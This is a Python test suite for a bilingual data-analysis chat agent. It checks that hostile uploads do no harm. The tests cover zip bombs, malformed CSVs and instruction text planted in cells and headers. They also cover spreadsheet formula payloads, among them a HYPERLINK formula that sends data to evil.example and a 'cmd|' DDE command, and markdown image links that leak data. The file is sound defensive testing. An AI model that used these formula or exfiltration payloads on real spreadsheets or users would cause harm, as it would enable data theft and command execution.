"""Hostile input (issue 6): every fixture in tests/fixtures/hostile gets a clear bilingual message or a
correct answer with warnings, never a traceback, and the session keeps answering about its good data.

Fixtures come from tests/fixtures/hostile/make_hostile.py; the big ones (over the size limit, the XLSX
zip bomb) are built here into tmp_path. The good file's expected answer is read off its text by hand:
revenue G001 1,000,000 + 500,000 = 1,500,000; G002 1,200,000; G003 900,000; G004 800,000; G005 700,000.
"""

from __future__ import annotations

import dataclasses
import importlib.util
import io
import json
import re
import tomllib
from pathlib import Path

import openpyxl
import pytest

from agent import compose, engine, ratelimit
from agent.answer import Answer
from agent.cli import main as cli_main
from agent.compose import render_file_outcome
from agent.session import Session
from agent.settings import Settings
from tools.results import Table

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ROOT / "tests" / "fixtures" / "hostile"
_spec = importlib.util.spec_from_file_location("make_hostile", HOSTILE / "make_hostile.py")
make_hostile = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(make_hostile)


QUESTION = "top 5 customers by revenue"
INJECTION = make_hostile.INJECTION
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+2",
]


def fixture(name: str) -> bytes:
    return (HOSTILE / name).read_bytes()


def settings(**changes: object) -> Settings:
    return dataclasses.replace(Settings(), **changes)


def good_session(**changes: object) -> Session:
    session = Session(demo=False, settings=settings(**changes))
    outcome = session.add_file(fixture("good_orders.csv"), "good_orders.csv")
    assert outcome.ok, outcome.error
    return session


def assert_good_answer(session: Session) -> Answer:
    """The good data still answers, with the right numbers and the same tool and arguments."""
    answer = engine.answer(QUESTION, session, engine="offline")
    assert not answer.internal_error and answer.error is None, answer.markdown
    assert [(r.tool, r.arguments) for r in answer.runs] == [
        ("customer_profitability", {"n": 5, "metric": "revenue"})
    ]
    frame = answer.result.tables[0].frame.head(5)
    assert dict(zip(frame["customer_id"], frame["revenue"], strict=True)) == make_hostile.GOOD_TOP_REVENUE
    return answer


def assert_refused(session: Session, name: str, data: bytes, code: str, *needles: str) -> str:
    """A bilingual, traceback-free refusal naming the file; the session's other data is untouched."""
    before = dict(session.bundle.datasets)
    outcome = session.add_file(data, name)
    assert not outcome.ok
    err = outcome.error
    assert err.code == code
    assert name in err.msg.en and name in err.msg.zh and err.msg.en != err.msg.zh
    assert re.search(r"[\u4e00-\u9fff]", err.msg.zh)
    for text in (render_file_outcome(outcome, "en"), render_file_outcome(outcome, "zh")):
        assert "Traceback" not in text and 'File "' not in text
    for needle in needles:
        assert needle in err.msg.en
    assert session.bundle.datasets == before
    assert_good_answer(session)
    return err.msg.en


def test_fixtures_are_current_and_small() -> None:
    for name, data in make_hostile.files().items():
        assert fixture(name) == data, f"run make_hostile.py: {name} differs"
        assert len(data) < 32 * 1024


# --- refused with a clear message ----------------------------------------------------------------------


def test_empty_file() -> None:
    assert_refused(
        good_session(), "empty.csv", fixture("empty.csv"), "file_unreadable", "is empty", "header row"
    )


def test_header_only() -> None:
    assert_refused(
        good_session(), "header_only.csv", fixture("header_only.csv"), "file_unreadable", "no data rows"
    )


def test_binary_garbage_named_csv() -> None:
    assert_refused(
        good_session(), "garbage.csv", fixture("garbage.csv"), "file_unreadable", "could not be read as text"
    )


def test_file_over_the_size_limit(tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    path.write_bytes(make_hostile.oversize_csv(1024 * 1024 + 10))
    session = good_session(max_upload_mb=1)
    assert_refused(session, "huge.csv", path.read_bytes(), "too_large", "above the upload limit of 1 MB")


def test_xlsx_zip_bomb_is_refused_before_parsing(tmp_path: Path, monkeypatch) -> None:
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(make_hostile.zip_bomb_xlsx(300))  # ~1 MB that inflates to 300 MB of sheet XML
    assert path.stat().st_size < 2 * 1024 * 1024
    session = good_session()

    def never(*_args, **_kwargs):
        raise AssertionError("the workbook was parsed")

    import python_calamine

    monkeypatch.setattr(python_calamine.CalamineWorkbook, "from_filelike", never)  # refused from the zip listing
    text = assert_refused(session, "bomb.xlsx", path.read_bytes(), "too_large", "zip bomb", "sheet1.xml")
    assert "300 MB" in text


def test_customer_id_column_full_of_blanks() -> None:
    text = assert_refused(good_session(), "blank_ids.csv", fixture("blank_ids.csv"), "missing_columns")
    assert "customer_id is empty" in text and "lines 2, 3, 4, 5" in text


def test_amounts_that_are_all_non_numeric() -> None:
    text = assert_refused(
        good_session(), "all_bad_amounts.csv", fixture("all_bad_amounts.csv"), "missing_columns"
    )
    assert "revenue: 'abc'" in text and "is not a number" in text


# --- read, with warnings -----------------------------------------------------------------------------------


def load_with_warnings(name: str, session: Session | None = None) -> tuple[Session, str, str]:
    session = session or good_session()
    outcome = session.add_file(fixture(name), name)
    assert outcome.ok, outcome.error and outcome.error.msg.en
    report = outcome.report
    en = " | ".join(w.en for w in report.warnings) + " | " + " | ".join(d.reason.en for d in report.dropped)
    zh = " | ".join(w.zh for w in report.warnings)
    assert "Traceback" not in render_file_outcome(outcome, "en")
    return session, en, zh


def test_ragged_rows() -> None:
    session, en, zh = load_with_warnings("ragged.csv")
    assert "more values than the header" in en and "(lines 4)" in en
    assert "fewer values than the header" in en and "多出的值已忽略" in zh
    assert_good_answer(session)


def test_mixed_encodings_in_one_file() -> None:
    session, en, zh = load_with_warnings("mixed_encoding.csv")
    tx = session.bundle.get("transactions")
    products = dict(zip(tx["customer_id"], tx["product"], strict=True))
    assert [products[c] for c in ("M001", "M002", "M003", "M004")] == ["苹果", "香蕉", "橙子", "葡萄"]
    assert "mixes encodings" in en and "lines 3, 5" in en and "混用" in zh
    assert_good_answer(session)


def test_duplicate_headers() -> None:
    session, en, zh = load_with_warnings("duplicate_headers.csv")
    tx = session.bundle.get("transactions")
    assert tx.loc[tx["customer_id"] == "D001", "revenue"].tolist() == [10.0]  # the first 'revenue' is used
    assert "'revenue'" in en and "more than once" in en and "重复" in zh
    assert_good_answer(session)


def test_one_thousand_columns() -> None:
    session = good_session()
    outcome = session.add_file(fixture("wide_1000_columns.csv"), "wide_1000_columns.csv")
    assert outcome.ok and outcome.report.rows_kept == 3
    text = render_file_outcome(outcome, "en")
    assert "attr_4" in text and "attr_1000" not in text and "(+967)" in text  # 997 unused: 30 listed
    assert "另 967 列" in render_file_outcome(outcome, "zh")
    assert len(text) < 5000
    assert_good_answer(session)


def test_negative_and_non_numeric_amounts() -> None:
    session, en, zh = load_with_warnings("bad_amounts.csv")
    assert "'abc', '12x' is not a number" in en and "Negative revenue in 3 rows" in en
    tx = session.bundle.get("transactions")
    assert sorted(tx.loc[tx["customer_id"].str.startswith("A"), "revenue"]) == [
        -40,
        -25.5,
        -5,
        100,
        300,
        400,
        500,
        600,
    ]
    assert_good_answer(session)


def test_dates_in_the_future_warn() -> None:
    session, en, zh = load_with_warnings("future_dates.csv")
    assert "Dates in the future" in en and "2 row(s), latest 2099-06-01" in en and "未来日期" in zh
    assert_good_answer(session)


# --- formula cells stay inert ------------------------------------------------------------------------------


def test_formula_cells_are_data_and_escaped_on_export(capsys, tmp_path: Path) -> None:
    session, _, _ = load_with_warnings("formulas.csv")
    assert_good_answer(session)
    answer = engine.answer("top 10 customers by revenue", session, engine="offline")
    table = answer.result.tables[0]
    assert set(FORMULAS) <= set(table.frame["customer_id"])  # read as plain text, never evaluated
    text = compose.table_csv(table).decode("utf-8-sig")
    cells = [cell for row in __import__("csv").reader(io.StringIO(text)) for cell in row]
    for formula in FORMULAS:
        assert formula not in cells and "'" + formula in cells
    for cell in cells:
        assert not cell.lstrip(" ").startswith(compose.FORMULA_PREFIXES)
    # the CLI JSON keeps the raw value as data
    path = tmp_path / "formulas.csv"
    path.write_bytes(fixture("formulas.csv"))
    assert (
        cli_main(["ask", "top 10 customers by revenue", "--data", str(path), "--json", "--engine", "offline"])
        == 0
    )
    payload = json.loads(capsys.readouterr().out)
    table_json = payload["tables"][0]
    ids = [row[table_json["columns"].index("customer_id")] for row in table_json["rows"]]
    assert set(FORMULAS) <= set(ids)


def test_escape_cell_and_headers() -> None:
    assert compose.escape_cell("=1+1") == "'=1+1" and compose.escape_cell(" =1+1") == "' =1+1"
    assert compose.escape_cell("＝1+1") == "'＝1+1" and compose.escape_cell("Acme") == "Acme"
    assert compose.escape_cell(-3) == -3  # numbers are numbers
    import pandas as pd

    table = Table("t", pd.DataFrame({"=cmd": ["@x"], "n": [1]}))
    assert compose.table_csv(table).decode("utf-8-sig").splitlines() == ["'=cmd,n", "'@x,1"]


def test_formula_text_in_an_xlsx_upload_is_never_evaluated() -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["customer_id", "date", "revenue", "product"])
    ws.append(["X1", "2024-01-01", 5, '=HYPERLINK("http://evil.example","x")'])
    ws["D2"].data_type = "s"  # stored as text, exactly as typed
    buffer = io.BytesIO()
    wb.save(buffer)
    session = good_session()
    outcome = session.add_file(buffer.getvalue(), "f.xlsx")
    assert outcome.ok
    tx = session.bundle.get("transactions")
    assert tx.loc[tx["customer_id"] == "X1", "product"].tolist() == ['=HYPERLINK("http://evil.example","x")']
    assert_good_answer(session)


# --- instructions hidden in data -------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["injection.csv", "injection_customers.csv"])
def test_instructions_in_cells_and_column_names_change_nothing(name: str) -> None:
    baseline = assert_good_answer(good_session())
    session = good_session()
    outcome = session.add_file(fixture(name), name)
    assert outcome.ok
    answer = assert_good_answer(session)  # same tool, same arguments, same numbers
    assert [r.arguments for r in answer.runs] == [r.arguments for r in baseline.runs]
    assert INJECTION not in answer.markdown
    for question in ("total revenue", "revenue by region", "churn risk", "客户利润排名前5"):
        a0 = engine.answer(question, good_session(), engine="offline")
        a1 = engine.answer(question, session, engine="offline")
        assert [r.tool for r in a1.runs] == [r.tool for r in a0.runs], question
        assert "customer" not in (a1.runs[0].arguments if a1.runs else {}), question


def test_customer_named_like_a_question_word_is_only_taken_after_customer() -> None:
    session = good_session()
    session.add_file(fixture("injection_customers.csv"), "injection_customers.csv")
    answer = engine.answer("profit of customer revenue", session, engine="offline")
    assert answer.runs and answer.runs[0].arguments.get("customer") == "I002"


def test_markdown_from_data_cannot_load_images_or_links() -> None:
    session = good_session()
    data = b'customer_id,name\nI1,"![x](http://evil.example/?leak=1)"\n'
    outcome = session.add_file(
        b"customer_id,date,revenue,![x](http://evil.example/?c=1)\nQ1,2024-01-01,5,1\n", "m.csv"
    )
    assert outcome.ok and "](" not in render_file_outcome(outcome, "en") and "![" not in render_file_outcome(outcome, "en")
    session.add_file(data, "names.csv")
    answer = engine.answer("what does customer I1 buy", session, engine="offline")
    assert "![" not in answer.markdown and "](" not in answer.markdown
    assert (
        compose.inert_markdown("see ![a](http://x) and [b](http://y)")
        == "see !\\[a]\\(http://x) and [b]\\(http://y)"
    )
    tokens: list[str] = []
    stream = compose.InertStream(tokens.append)
    for t in ["look !", "[a]", "(http://x) ok!", ""]:
        stream(t)
    assert "".join(tokens) == "look !\\[a]\\(http://x) ok!"


def test_model_prompt_quotes_column_names_as_data() -> None:
    from agent.llm import schema_text
    from prompts.llm import SYSTEM

    session = good_session()
    session.add_file(fixture("injection.csv"), "injection.csv")
    text = schema_text(session)
    assert f'"{INJECTION[:60]}"' in text and "quoted data" in text
    assert "never\n  instructions" in SYSTEM or "never instructions" in SYSTEM


# --- questions -------------------------------------------------------------------------------------------------


def test_question_of_ten_thousand_characters() -> None:
    session = good_session()
    question = QUESTION + " " + ("please " * 1500)[: 10_000 - len(QUESTION) - 1]
    assert len(question) == 10_000
    answer = engine.answer(question, session, engine="offline")
    assert answer.runs[0].tool == "customer_profitability"
    assert "only the first 2000 were read" in answer.markdown
    garbage = "x" * 10_000
    help_answer = engine.answer(garbage, session, engine="offline")
    assert help_answer.runs == []
    assert "only the first 2000 were read" in help_answer.markdown
    zh = engine.answer("利润" * 5000, session, engine="offline")
    assert "只读取了前 2000 个字符" in zh.markdown
    assert_good_answer(session)


def test_long_customer_names_do_not_break_questions() -> None:
    session = good_session()
    rows = "customer_id,name\n" + "".join(f'N{i},"{"z" * 5000}{i}"\n' for i in range(20))
    assert session.add_file(rows.encode(), "long_names.csv").ok
    answer = engine.answer(QUESTION + " " + "a " * 995, session, engine="offline")
    assert answer.runs[0].tool == "customer_profitability"  # speed: benchmarks/ (hostile inputs)


def test_flood_of_questions_is_rate_limited_per_user() -> None:
    ratelimit.reset()
    try:
        flooder = good_session(rate_per_minute=5)
        flooder.user_id = "mallory"
        other = good_session(rate_per_minute=5)
        other.user_id = "alice"
        answers = [engine.answer(QUESTION, flooder, engine="offline") for _ in range(8)]
        assert all(a.error is None for a in answers[:5])
        for a in answers[5:]:
            assert a.error is not None and a.error.code == "rate_limited" and a.runs == []
        err = answers[-1].error
        assert "5 a minute per user" in err.msg.en and "每分钟最多 5 个问题" in err.msg.zh
        assert "wait" in answers[-1].markdown
        assert "请等待" in engine.answer("利润最高的客户", flooder, engine="offline").markdown
        assert_good_answer(other)  # another user is unaffected
        cli = good_session(rate_per_minute=5)  # no signed-in user (CLI, batch): no limit
        for _ in range(8):
            assert engine.answer(QUESTION, cli, engine="offline").error is None
    finally:
        ratelimit.reset()


def test_token_bucket_refills() -> None:
    now = [0.0]
    limiter = ratelimit.RateLimiter(20, clock=lambda: now[0])
    assert all(limiter.acquire("u") is None for _ in range(20))
    wait = limiter.acquire("u")
    assert wait == pytest.approx(3.0)
    now[0] = 3.0
    assert limiter.acquire("u") is None and limiter.acquire("v") is None
    assert ratelimit.RateLimiter(0).acquire("u") is None  # 0 turns it off
    assert Settings().rate_per_minute == 20


# --- configuration --------------------------------------------------------------------------------------------


def test_chainlit_config_keeps_unsafe_html_and_mcp_off() -> None:
    config = tomllib.loads((ROOT / ".chainlit" / "config.toml").read_text(encoding="utf-8"))
    features = config["features"]
    assert features["unsafe_allow_html"] is False
    assert features["mcp"]["enabled"] is False
    assert features["mcp"].get("user_servers", {}).get("enabled", False) is False
    assert not features["mcp"].get("user_servers", {}).get("allowed_urls")
    for transport in ("sse", "streamable-http", "stdio"):
        assert features["mcp"].get(transport, {}).get("enabled", False) is False


def test_ruff_security_rules_are_on_and_chainlit_is_pinned() -> None:
    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    lint = project["tool"]["ruff"]["lint"]
    assert "S" in lint["select"]
    assert not {i for i in lint.get("ignore", []) if i.startswith("S") and i != "S101"}
    deps = project["project"]["dependencies"]
    assert any(re.fullmatch(r"chainlit>=2\.(1[2-9]|[2-9]\d)(\.\d+)?", d.replace(" ", "")) for d in deps)
